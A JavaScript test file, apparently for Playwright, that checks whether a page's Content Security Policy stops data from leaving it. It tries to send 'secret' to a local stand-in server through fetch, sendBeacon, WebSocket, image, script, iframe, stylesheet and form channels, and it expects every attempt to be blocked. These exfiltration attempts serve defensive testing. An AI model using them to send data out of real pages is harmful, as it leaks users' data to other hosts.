// "Nothing leaves this page" is a property of the build, not a promise: these tests try to get something out.
import { createServer } from "node:http";
import { test } from "./harness.mjs";

// A server of another origin that accepts anything, and remembers it.
async function elsewhere() {
  const received = [];
  const server = createServer((request, response) => {
    received.push(request.url);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end();
  });
  await new Promise(done => server.listen(0, "127.0.0.1", done));
  return { url: `http://127.0.0.1:${server.address().port}/`, received, close: () => server.close() };
}

const attempt = url => fetch(url, { method: "POST", body: "secret" }).then(() => "sent", () => "blocked");

for (const [who, scope] of [["page", page => page], ["worker", page => page.workers()[0]]]) {
  test(`exfiltration blocked from the ${who}`, async ({ page, state, until, equal, expected }) => {
    const other = await elsewhere();
    expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy)`));
    await state("ready");
    // Playwright hears of the worker a moment after the page does.
    await until("the worker", () => page.workers().length > 0);
    equal(await scope(page).evaluate(attempt, other.url), "blocked", "fetch");
    equal(other.received, [], "requests that arrived elsewhere");
    other.close();
  });
}

test("exfiltration blocked by every other door of the page", async ({ page, state, equal, until, expected }) => {
  const other = await elsewhere();
  expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy|uncaught: .*Content Security Policy)`));
  await state("ready");
  await page.evaluate(url => {
    window.violations = [];
    addEventListener("securitypolicyviolation", event => violations.push(event.effectiveDirective));
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    add("img", { src: url });
    add("script", { src: url });
    add("script", { textContent: "window.ran = true" });
    add("link", { rel: "stylesheet", href: url });
    add("iframe", { src: url });
    navigator.sendBeacon(url, "secret");
    new EventSource(url);
    try { new WebSocket(url.replace("http", "ws")); } catch { violations.push("connect-src"); }
    const form = document.createElement("form");
    form.action = url;
    document.body.append(form);
    form.submit();
  }, other.url);
  const doors = ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"];
  await until("a violation at every door", () => page.evaluate(doors => doors.every(door => violations.includes(door)), doors));
  equal(await page.evaluate(() => window.ran), undefined, "an inline script");
  equal(other.received, [], "requests that arrived elsewhere");
  other.close();
});
